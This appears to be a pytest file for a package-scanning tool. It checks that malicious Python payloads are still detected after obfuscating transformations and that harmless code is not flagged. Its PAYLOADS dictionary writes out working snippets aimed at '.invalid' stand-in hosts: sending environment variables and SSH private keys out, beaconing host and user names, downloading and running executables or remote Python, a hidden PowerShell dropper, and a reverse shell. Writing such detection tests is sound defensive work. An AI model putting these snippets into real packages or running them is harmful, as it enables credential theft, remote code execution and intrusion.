"""The same technique, written otherwise, is still found."""

import hashlib

import msgspec
import pytest

from pratique import ecosystems, inspection, rules, verdict
from pratique.limits import Limits
from pratique.training import examples
from pratique.training.transformations import TRANSFORMATIONS

PAYLOADS = {
    "environment": """
import os
import requests
requests.post("https://collect.invalid/report", json=dict(os.environ))
""",
    "host": """
import getpass
import socket
import urllib.request
name = socket.gethostname() + "." + getpass.getuser()
urllib.request.urlopen("https://collect.invalid/?who=" + name)
""",
    "program": """
import os
import subprocess
import urllib.request
place = os.path.join(os.environ["TEMP"], "update.exe")
urllib.request.urlretrieve("https://files.invalid/update.exe", place)
subprocess.Popen([place])
""",
    "remote": """
import urllib.request
exec(urllib.request.urlopen("https://files.invalid/next.py").read())
""",
    "keys": """
import os
import requests
with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
    requests.post("https://collect.invalid/keys", data=file.read())
""",
    "powershell": """
import os
os.system("powershell -w hidden -c iwr https://files.invalid/a.exe -OutFile a.exe; start a.exe")
""",
    "shell": """
import os
import socket
import subprocess
line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
line.connect(("collect.invalid", 4444))
os.dup2(line.fileno(), 0)
os.dup2(line.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
""",
}
KNOWN_GAPS: frozenset[tuple[str, str]] = frozenset()
"""Pairs of payload and transformation that are not found yet."""


def score(files: dict[str, str]) -> float:
    data, name = examples.sdist(files)
    _, artifact = ecosystems.identify(name, data[:65536])
    digest = hashlib.sha256(data).hexdigest()
    artifact = msgspec.structs.replace(artifact, sha256=digest, size=len(data))
    facts = inspection.inspect(data, artifact, Limits()).facts
    found = rules.findings(rules.catalog(), facts, "pypi", "sdist")
    return verdict.score(found, facts).value


@pytest.mark.parametrize("how", [*TRANSFORMATIONS, "base64 split getattr", "xor class module"])
@pytest.mark.parametrize("what", PAYLOADS)
def test_a_payload_is_found_however_it_is_written(what: str, how: str) -> None:
    path = "ours/__init__.py"
    files = {path: PAYLOADS[what]}
    for name in [how] if how in TRANSFORMATIONS else how.split():
        files = TRANSFORMATIONS[name](files, path)
    found = score(files)
    expected = (what, how) not in KNOWN_GAPS
    assert (found >= verdict.policy().threshold.suspicious) is expected, files[path][:400]


@pytest.mark.parametrize("how", TRANSFORMATIONS)
def test_what_is_innocent_stays_so_however_it_is_written(how: str) -> None:
    path = "ours/__init__.py"
    innocent = "import json\ndef load(path):\n    with open(path) as file:\n        return json.load(file)\n"
    if how.startswith("exec-") or how == "data":
        return  # hidden code is a finding whatever it does
    assert score(TRANSFORMATIONS[how]({path: innocent}, path)) < 0.5
